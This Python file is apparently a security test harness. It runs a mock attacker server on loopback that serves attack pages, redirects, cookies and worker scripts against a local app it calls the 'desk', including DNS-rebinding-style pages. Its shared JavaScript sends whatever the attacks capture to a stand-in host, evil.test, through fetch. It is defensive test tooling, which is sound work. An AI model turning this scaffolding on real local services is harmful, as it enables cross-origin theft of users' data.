"""The attacker's own server: gives pages under any name and any port of its own, redirects, sets cookies, and collects what pages report."""

import html
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One attack: a page that does something to the desk.

    ``script`` is the body of an async function, in which DESK is the desk's origin, DEED a deed's JSON, ROUTES the desk's pages, STAMP
    a guessed stamp, HOME the attacker's origin, ``tell(x)`` reports, ``pause(ms)`` waits. ``markup`` stands in the page's body, ``head`` in
    its head, with the same words in double braces. ``host`` is the name under which the page is opened: at the attacker's port, or
    (``rebound``) at the desk's own, as if the name had led to the attacker a moment ago; "file" is a file on disk.
    """

    name: str
    script: str = ""
    markup: str = ""
    head: str = ""
    host: str = "evil.test"
    rebound: bool = False


@dataclass(frozen=True, slots=True, kw_only=True)
class Aim:
    """What an attack is aimed at: the desk's port, the attacker's port, the deed, the routes, a guessed stamp."""

    desk: int
    home: int
    deed: str
    routes: tuple[str, ...]
    stamp: str = "guessed-stamp"

    def words(self) -> dict[str, object]:
        """Return what a page calls these."""
        return {
            "DESK": f"http://127.0.0.1:{self.desk}",
            "PORT": self.desk,
            "HOME": f"http://evil.test:{self.home}",
            "HOMEPORT": self.home,
            "DEED": self.deed,
            "ROUTES": self.routes,
            "STAMP": self.stamp,
        }


_COMMON = """
const pause = (ms) => new Promise((go) => setTimeout(go, ms));
const say = (path, body) => fetch(HOME + path + "?attack=" + encodeURIComponent(NAME), {method: "POST", mode: "no-cors", body, keepalive: body.length < 60000});
const tell = (what) => say("/report", typeof what === "string" ? what : String(JSON.stringify(what)));
const attempt = async (work) => { try { const got = await work(); if (got !== undefined) await tell(got); return got; } catch (error) { await tell("failed: " + error); } };
const each = (work) => Promise.all(ROUTES.map((route) => attempt(() => work(DESK + route))));
const some = async (answer) => { const got = answer.body.getReader(); const {value} = await got.read(); got.cancel(); return new TextDecoder().decode(value); };
const element = (tag, values, within) => { const made = document.createElement(tag); Object.assign(made, values); (within || document.body || document.documentElement).append(made); return made; };
const loaded = (made) => Promise.race([new Promise((go) => { made.onload = () => go("load"); made.onerror = () => go("error"); }), pause(900)]);
const form = (values, fields) => { const made = element("form", values); for (const [name, value] of Object.entries(fields)) element("input", {type: "hidden", name, value}, made); return made; };
const inside = (frame) => { try { return frame.contentDocument.documentElement.outerHTML; } catch (error) { return "failed: " + error; } };
const split = () => { const at = DEED.lastIndexOf("}"); return [DEED.slice(0, at) + ',"old":"', '"}']; };
addEventListener("message", (event) => tell(event.data));
addEventListener("error", (event) => tell(event.message || "error"));
"""


def page(attack: Attack, aim: Aim) -> str:
    """Return the page of an attack."""
    words = aim.words() | {"NAME": attack.name}
    constants = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in words.items())
    head, markup = attack.head, attack.markup
    for name, value in words.items():
        head, markup = (text.replace("{{" + name + "}}", html.escape(str(value), quote=True)) for text in (head, markup))
    run = f"(async () => {{ try {{ {attack.script} }} catch (error) {{ await tell('failed: ' + error); }} finally {{ await say('/done', ''); }} }})();"
    script = (constants + _COMMON + run).replace("</", "<\\/")
    return f"<!doctype html><html><head><meta charset='utf-8'><title>{html.escape(attack.name)}</title>{head}</head><body>{markup}<script>{script}</script></body></html>"


@dataclass(slots=True)
class Collected:
    """What came to the attacker: reports by attack, the attacks that are done, and all headers of all requests."""

    reports: dict[str, list[str]] = field(default_factory=dict)
    done: set[str] = field(default_factory=set)
    heard: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)

    def holding(self, words: str) -> set[str]:
        """Return the attacks that reported some words."""
        return {name for name, texts in self.reports.items() if any(words in text for text in texts)}


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    collected: Collected


class _Handler(BaseHTTPRequestHandler):
    """Answers what attacks ask of their own server."""

    server: _Server
    protocol_version = "HTTP/1.1"
    timeout = 10

    def do_GET(self) -> None:
        """Give a page, a redirect, or cookies."""
        self.server.collected.heard.append(f"{self.path} {dict(self.headers)}")
        url = urlsplit(self.path)
        query = {name: values[0] for name, values in parse_qs(url.query).items()}
        if url.path == "/redirect":
            self._answer(int(query["code"]), "", {"Location": query["to"]})
        elif url.path == "/cookies":
            self._answer(200, "<!doctype html>cookies", {"Set-Cookie": query["set"]})
        elif url.path == "/worker.js":
            self._answer(200, query["text"], {"Content-Type": "text/javascript"})
        else:
            given = self.server.collected.pages.get(query.get("name", ""), "")
            self._answer(200 if given else 404, given, {})

    def do_POST(self) -> None:
        """Take a report, or redirect."""
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        url = urlsplit(self.path)
        name = parse_qs(url.query).get("attack", [""])[0]
        if url.path == "/redirect":
            self.do_GET()
            return
        if url.path == "/done":
            self.server.collected.done.add(name)
        else:
            self.server.collected.reports.setdefault(name, []).append(body)
        self._answer(200, "", {})

    def _answer(self, status: int, text: str, headers: dict[str, str]) -> None:
        body = text.encode()
        self.send_response(status)
        for key, value in {"Content-Type": "text/html; charset=utf-8", "Access-Control-Allow-Origin": "*", **headers}.items():
            for one in value.split("\n"):
                self.send_header(key, one)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def attacker() -> Iterator[tuple[int, Collected]]:
    """Run the attacker's server on loopback; return its port and what it collects."""
    server = _Server(("127.0.0.1", 0), _Handler)
    server.collected = Collected()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1]), server.collected
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)
